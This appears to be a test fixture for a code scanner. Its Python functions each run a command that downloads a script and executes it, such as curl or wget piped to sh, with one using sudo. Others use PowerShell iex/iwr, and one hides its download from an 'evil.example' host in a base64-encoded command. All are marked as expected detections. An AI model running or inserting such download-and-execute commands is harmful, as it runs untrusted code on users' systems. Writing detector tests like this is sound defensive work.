import os
import subprocess

INSTALL = "curl -fsSL https://get.example.sh | sh"


def a():
    os.system("curl -fsSL https://get.example.com/install.sh | bash")  # expect: RCE004


def b():
    subprocess.run("wget -qO- https://example.com/setup | sudo bash -s --", shell=True)  # expect: RCE004


def c():
    subprocess.check_call(["bash", "-c", "curl -s https://x.example.com/i.sh | sh"])  # expect: RCE004


def d():
    subprocess.run(["powershell", "-Command", "iex (iwr https://example.com/a.ps1)"])  # expect: RCE004


def e():
    os.system(INSTALL)  # expect: RCE004


def f():
    subprocess.run(["bash", "-c", "bash <(curl -s https://example.com/x)"])  # expect: RCE004


def g():
    # UTF-16LE base64 of: iex (iwr http://evil.example/p.ps1)
    subprocess.run(["powershell", "-EncodedCommand",  # expect: RCE004
                    "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAHAALgBwAHMAMQApAA=="])


def h(url):
    os.system("curl -fsSL " + url + " | sh")  # expect: RCE004
